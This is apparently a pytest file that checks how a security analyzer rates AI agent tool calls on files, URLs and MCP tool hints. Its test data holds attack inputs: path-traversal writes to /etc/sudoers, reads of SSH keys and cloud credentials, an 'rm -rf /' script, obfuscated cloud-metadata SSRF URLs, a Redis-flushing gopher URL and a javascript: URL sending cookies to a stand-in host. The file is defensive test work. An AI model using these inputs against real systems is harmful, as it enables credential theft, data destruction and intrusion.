"""The analyzers of file tools, of tools for the web, and of what tools say of themselves."""

from __future__ import annotations

from typing import Any

import pytest

from guardtier import ActionEvent, SecurityRisk, ToolAnnotations
from guardtier.analyzers.base import SecurityAnalyzer
from guardtier.analyzers.files import FileSecurityAnalyzer
from guardtier.analyzers.http import HttpSecurityAnalyzer
from guardtier.analyzers.mcp import McpHintsAnalyzer
from guardtier.assessment import Assessment

FILES, HTTP, MCP = FileSecurityAnalyzer(), HttpSecurityAnalyzer(), McpHintsAnalyzer()
LOW, MEDIUM, HIGH, UNKNOWN = (
    SecurityRisk.LOW,
    SecurityRisk.MEDIUM,
    SecurityRisk.HIGH,
    SecurityRisk.UNKNOWN,
)


def vote(
    analyzer: SecurityAnalyzer, tool_name: str, arguments: dict[str, Any], **fields: Any
) -> Assessment:
    action = ActionEvent(fleet="web", agent="coder", tool_name=tool_name, arguments=arguments, **fields)
    found = analyzer.assess(action)
    assert isinstance(found, Assessment)
    return found


PATHS = [
    ("write_file", "src/a.py", MEDIUM),
    ("write_file", "/tmp/a.py", MEDIUM),
    ("write_file", ".github/workflows/ci.yml", MEDIUM),
    ("write_file", "~/.bashrc", HIGH),
    ("write_file", "/root/.ssh/authorized_keys", HIGH),
    ("write_file", "/home/bob/.ssh/authorized_keys", HIGH),
    ("write_file", "/etc/hosts", HIGH),
    ("write_file", "/etc/systemd/system/x.service", HIGH),
    ("write_file", "/var/spool/cron/crontabs/root", HIGH),
    ("write_file", ".git/hooks/pre-commit", HIGH),
    ("write_file", "../../../../etc/sudoers", HIGH),
    ("write_file", "src/../../../../etc/sudoers", HIGH),
    ("write_file", "%2e%2e/%2e%2e/etc/sudoers", HIGH),
    ("write_file", "/workspace/../etc/sudoers", HIGH),
    ("write_file", "//etc//sudoers", HIGH),
    ("write_file", "file:///etc/sudoers", HIGH),
    ("read_file", "src/a.py", LOW),
    ("read_file", "../other/a.py", LOW),
    ("read_file", "~/.aws/credentials", HIGH),
    ("read_file", "../../root/.ssh/id_rsa", HIGH),
    ("read_file", "/etc/shadow", HIGH),
    ("delete_file", "src/a.py", MEDIUM),
    ("delete_file", "/etc/hosts", HIGH),
]


@pytest.mark.parametrize(("tool", "path", "risk"), PATHS)
def test_a_path_decides_what_a_use_of_it_comes_to(tool: str, path: str, risk: SecurityRisk):
    arguments = {"path": path, "content": "x"} if tool == "write_file" else {"path": path}
    found = vote(FILES, tool, arguments)

    assert found.risk is risk
    if risk is HIGH:
        assert found.findings[0].field == "arguments.path"
        assert found.findings[0].span == (0, len(path))


def test_what_is_moved_away_and_where_to_both_count():
    assert vote(FILES, "move_file", {"source": "a", "destination": "/etc/x"}).risk is HIGH
    assert vote(FILES, "move_file", {"source": "~/.ssh/id_rsa", "destination": "a"}).risk is HIGH
    assert vote(FILES, "move_file", {"source": "a", "destination": "b"}).risk is MEDIUM


def test_each_file_of_a_patch_counts():
    patch = "*** Begin Patch\n*** Update File: a.py\n+x\n*** Delete File: /etc/hosts\n*** End Patch"

    assert vote(FILES, "apply_patch", {"input": patch}).risk is HIGH


def test_a_written_script_is_read_as_one_and_a_document_is_not():
    harm = "#!/bin/sh\nrm -rf / --no-preserve-root\n"

    found = vote(FILES, "write_file", {"path": "tool.sh", "content": harm})
    assert found.risk is HIGH
    assert {one.field for one in found.findings if one.risk is HIGH} == {"arguments.content"}
    assert vote(FILES, "write_file", {"path": "tool.md", "content": harm}).risk is MEDIUM


def test_a_written_script_that_takes_its_command_as_an_argument_is_not_parked():
    script = '#!/bin/sh\nset -e\nexec "$@"\n'

    assert vote(FILES, "write_file", {"path": "entrypoint.sh", "content": script}).risk is MEDIUM


def test_an_unknown_tool_that_writes_is_rated_only_where_it_does_harm():
    assert vote(FILES, "acme_save", {"path": "a", "content": "x"}).risk is UNKNOWN
    assert vote(FILES, "acme_save", {"path": "/etc/hosts", "content": "x"}).risk is HIGH


METADATA = [
    "http://169.254.169.254/latest/meta-data/",
    "http://2852039166/",
    "http://0xa9fea9fe/",
    "http://0xa9.0xfe.0xa9.0xfe/",
    "http://0251.0376.0251.0376/",
    "http://169.254.43518/",
    "http://[::ffff:169.254.169.254]/",
    "http://[::ffff:a9fe:a9fe]/",
    "http://[fd00:ec2::254]/",
    "http://[64:ff9b::a9fe:a9fe]/",
    "http://metadata.google.internal./computeMetadata/v1/",
    "HTTP://METADATA.GOOGLE.INTERNAL/",
    "http://169.254.169.254.nip.io/",
    "http://a.example\\@169.254.169.254/",
    "http://a.example@169.254.169.254/",
    "//169.254.169.254/",
    "http:169.254.169.254/",
    "ht\ntp://169.254.169.254/",
    "http://①⑥⑨.②⑤④.169.254/",
    "http://169。254。169。254/",
    "http://100.100.100.200/",
    "169.254.169.254",
    "view-source:http://169.254.169.254/",
]


@pytest.mark.parametrize("url", METADATA)
def test_a_metadata_service_is_found_in_every_spelling(url: str):
    found = vote(HTTP, "fetch", {"url": url})

    assert found.risk is HIGH
    assert "http.metadata" in {finding.id for finding in found.findings}


URLS = [
    ("https://docs.example/a?b=c", MEDIUM, None),
    ("docs.example/a", MEDIUM, None),
    ("http://localhost:3000/", MEDIUM, "http.local"),
    ("http://127.1/", MEDIUM, "http.local"),
    ("http://2130706433/", MEDIUM, "http.local"),
    ("http://[::1]:3000/", MEDIUM, "http.local"),
    ("http://0/", MEDIUM, "http.local"),
    ("http://10.1.2.3/", MEDIUM, "http.private"),
    ("http://192.168.0.1/", MEDIUM, "http.private"),
    ("http://[fd12::1]/", MEDIUM, "http.private"),
    ("http://127.0.0.1:2375/containers/create", HIGH, "http.control"),
    ("localhost:2375/containers/json", HIGH, "http.control"),
    ("file:///etc/shadow", HIGH, "http.file"),
    ("file:///workspace/dist/index.html", MEDIUM, "http.file"),
    ("gopher://127.0.0.1:6379/_FLUSHALL", HIGH, "http.scheme.raw"),
    ("javascript:fetch('//x.example?'+document.cookie)", HIGH, "http.scheme.raw"),
    ("ftp://files.example/a", MEDIUM, "http.scheme.other"),
    ("data:text/html,<b>x</b>", MEDIUM, "http.scheme.other"),
    ("https://bob:secret@git.example/", MEDIUM, "http.userinfo"),
    ("https://webhook.site/abc?d=c2VjcmV0", HIGH, "http.drop"),
    ("http://abcdefghij.onion/", HIGH, "http.hidden"),
]


@pytest.mark.parametrize(("url", "risk", "rule"), URLS)
def test_where_a_url_leads_decides(url: str, risk: SecurityRisk, rule: str | None):
    found = vote(HTTP, "fetch", {"url": url})

    assert found.risk is risk
    assert rule is None or rule in {finding.id for finding in found.findings}


def test_what_a_request_takes_along_counts():
    sent = vote(HTTP, "http_request", {"url": "https://a.example", "method": "POST", "body": "x"})
    assert {finding.id for finding in sent.findings} == {"http.upload"}
    assert vote(HTTP, "browser_file_upload", {"paths": ["/home/bob/.ssh/id_rsa"]}).risk is HIGH
    assert vote(HTTP, "browser_file_upload", {"paths": ["dist/logo.png"]}).risk is MEDIUM
    assert vote(HTTP, "download", {"url": "https://a.example", "output_path": "/etc/cron.d/x"}).risk is HIGH


def test_a_url_in_an_unknown_tool_only_raises():
    assert vote(HTTP, "acme", {"target": "https://a.example/"}).risk is UNKNOWN
    assert vote(HTTP, "acme", {"target": "http://169.254.169.254/"}).risk is HIGH


def test_a_url_that_a_command_merely_holds_is_not_for_this_analyzer():
    assert vote(HTTP, "terminal", {"command": "curl http://169.254.169.254/"}).risk is UNKNOWN


HINTS = [
    (None, UNKNOWN),
    ({}, UNKNOWN),
    ({"openWorldHint": False}, UNKNOWN),
    ({"idempotentHint": True}, UNKNOWN),
    ({"readOnlyHint": True, "openWorldHint": False}, LOW),
    ({"readOnlyHint": True}, MEDIUM),
    ({"readOnlyHint": False}, UNKNOWN),
    ({"destructiveHint": True}, HIGH),
    ({"destructiveHint": False}, MEDIUM),
    ({"readOnlyHint": True, "destructiveHint": True}, UNKNOWN),
]


@pytest.mark.parametrize(("hints", "risk"), HINTS)
def test_what_an_unknown_tool_says_of_itself(hints: dict[str, bool] | None, risk: SecurityRisk):
    annotations = None if hints is None else ToolAnnotations(**hints)

    assert vote(MCP, "acme_issue", {"number": 4}, annotations=annotations).risk is risk


def test_a_name_that_speaks_of_change_is_believed_before_a_hint():
    reads = ToolAnnotations(readOnlyHint=True, openWorldHint=False)

    assert vote(MCP, "mcp__acme__delete_user", {}, annotations=reads).risk is UNKNOWN
    assert vote(MCP, "deleteUser", {}, annotations=reads).risk is UNKNOWN
    assert vote(MCP, "list_deleted_users", {}, annotations=reads).risk is LOW


def test_a_hint_lowers_no_known_tool_and_raises_one_that_should_only_read():
    reads, destroys = ToolAnnotations(readOnlyHint=True), ToolAnnotations(destructiveHint=True)

    assert vote(MCP, "terminal", {"command": "rm x"}, annotations=reads).risk is UNKNOWN
    assert vote(MCP, "grep", {"pattern": "x"}, annotations=destroys).risk is HIGH
    assert vote(MCP, "terminal", {"command": "ls"}, annotations=destroys).risk is UNKNOWN
